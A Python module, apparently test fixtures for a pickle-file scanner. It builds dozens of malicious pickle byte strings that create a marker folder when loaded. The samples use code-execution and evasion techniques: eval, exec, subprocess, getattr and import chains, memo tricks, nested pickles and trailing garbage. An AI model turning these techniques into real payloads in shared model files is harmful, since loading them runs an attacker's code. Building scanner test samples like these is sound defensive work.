"""Model files that would do something when loaded: here, make a folder. One technique each, from one opcode to whole files.

`live` are those that really make the folder when Python's own pickle loads them: they prove that the samples bite.
"""

import pickle
import struct

STOP = b"."
REDUCE = b"R"


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def short(value: str) -> bytes:
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def tuple_of(*parts: bytes) -> bytes:
    return b"(" + b"".join(parts) + b"t"


def calling(module: str, attribute: str, *args: bytes) -> bytes:
    return b"\x80\x02" + name(module, attribute) + tuple_of(*args) + REDUCE + STOP


def live(marker: str) -> dict[str, bytes]:
    """Files that make the folder `marker` when `pickle.loads` gets them."""
    path = text(marker)
    code = f"__import__('os').mkdir({marker!r})"
    made = tuple_of(path) + REDUCE
    mkdir = name("posix", "mkdir")
    partial = name("functools", "partial") + tuple_of(mkdir, path) + REDUCE
    getter = name("builtins", "getattr") + tuple_of(name("os", "path"), text("os")) + REDUCE
    return {
        "reduce": b"\x80\x02" + mkdir + made + STOP,
        "protocol 0 text": f"cposix\nmkdir\n(V{marker}\ntR.".encode(),
        "protocol 0 quoted": f"cposix\nmkdir\n(S'{marker}'\ntR.".encode(),
        "inst": f"(V{marker}\niposix\nmkdir\n.".encode(),
        "obj": b"\x80\x02(" + mkdir + path + b"o" + STOP,
        "stack global": b"\x80\x04" + short("posix") + short("mkdir") + b"\x93" + made + STOP,
        "stack global, long text": b"\x80\x04"
        + text("posix")
        + text("mkdir")
        + b"\x93"
        + made
        + STOP,
        "stack global, python 2 text": b"\x80\x04U\x05posixU\x05mkdir\x93" + made + STOP,
        "stack global, escapes": b"\x80\x04V\\u0070osix\nV\\u006dkdir\n\x93" + made + STOP,
        "names from the memo": (
            b"\x80\x04"
            + short("mkdir")
            + b"\x94"
            + short("posix")
            + b"\x94"
            + b"00h\x01h\x00\x93"
            + made
            + STOP
        ),
        "memo overwritten": b"\x80\x04"
        + short("ndarray")
        + b"q\x00"
        + short("posix")
        + b"q\x00"
        + b"00h\x00"
        + short("mkdir")
        + b"\x93"
        + made
        + STOP,
        "in a frame": b"\x80\x04\x95"
        + struct.pack("<Q", len(mkdir + made) + 1)
        + mkdir
        + made
        + STOP,
        "result thrown away": b"\x80\x02" + mkdir + made + b"0N" + STOP,
        "result in a mark thrown away": b"\x80\x02(" + mkdir + made + b"1N" + STOP,
        "in a list": b"\x80\x02](" + mkdir + made + b"e" + STOP,
        "as a key": b"\x80\x02}(" + mkdir + made + b"K\x01u" + STOP,
        "duplicated": b"\x80\x02" + mkdir + path + b"\x85" + b"R2" + b"0" + STOP,
        "os": calling("os", "mkdir", path),
        "os.makedirs": calling("os", "makedirs", path),
        "pathlib by attribute": b"\x80\x04"
        + short("pathlib")
        + short("Path.mkdir")
        + b"\x93"
        + tuple_of(name("pathlib", "Path") + made)
        + REDUCE
        + STOP,
        "python 2 builtin": calling("__builtin__", "eval", text(code)),
        "eval": calling("builtins", "eval", text(code)),
        "exec": calling("builtins", "exec", text(code)),
        "getattr chain": b"\x80\x02"
        + name("builtins", "getattr")
        + tuple_of(getter, text("mkdir"))
        + REDUCE
        + made
        + STOP,
        "import chain": b"\x80\x02"
        + name("builtins", "getattr")
        + tuple_of(name("builtins", "__import__") + tuple_of(text("os")) + REDUCE, text("mkdir"))
        + REDUCE
        + made
        + STOP,
        "importlib chain": b"\x80\x02"
        + name("builtins", "getattr")
        + tuple_of(
            name("importlib", "import_module") + tuple_of(text("os")) + REDUCE, text("mkdir")
        )
        + REDUCE
        + made
        + STOP,
        "subprocess": calling("subprocess", "call", b"](" + text("mkdir") + path + b"e"),
        "timeit": calling(
            "timeit", "timeit", text(code), text("pass"), name("time", "perf_counter"), b"K\x01"
        ),
        "profile": calling("cProfile", "run", text(code + " if 1 else 0")),
        "partial called": b"\x80\x02" + partial + b")" + REDUCE + STOP,
        "methodcaller": b"\x80\x02"
        + name("operator", "methodcaller")
        + tuple_of(text("mkdir"), path)
        + REDUCE
        + tuple_of(
            name("os", "path")
            + b"0"
            + name("builtins", "__import__")
            + tuple_of(text("os"))
            + REDUCE
        )
        + REDUCE
        + STOP,
        "map": b"\x80\x02"
        + name("builtins", "list")
        + tuple_of(name("builtins", "map") + tuple_of(mkdir, b"](" + path + b"e") + REDUCE)
        + REDUCE
        + STOP,
        "reduce function": calling("functools", "reduce", mkdir, b"](" + path + b"M\xff\x01e"),
        "pickle in a pickle": calling(
            "pickle",
            "loads",
            b"C" + bytes([len(inner := b"cposix\nmkdir\n(" + path + b"tR.")]) + inner,
        ),
        "two in one": b"\x80\x02" + mkdir + made + STOP + pickle.dumps([1]),
        "no stop": b"\x80\x02" + mkdir + made,
        "broken after": b"\x80\x02" + mkdir + made + b"\xff",
        "python code by cloudpickle's parts": calling(
            "types",
            "FunctionType",
            name("builtins", "compile") + tuple_of(text(code), text("x"), text("eval")) + REDUCE,
            b"}",
        )[:-1]
        + b")"
        + REDUCE
        + STOP,
    }
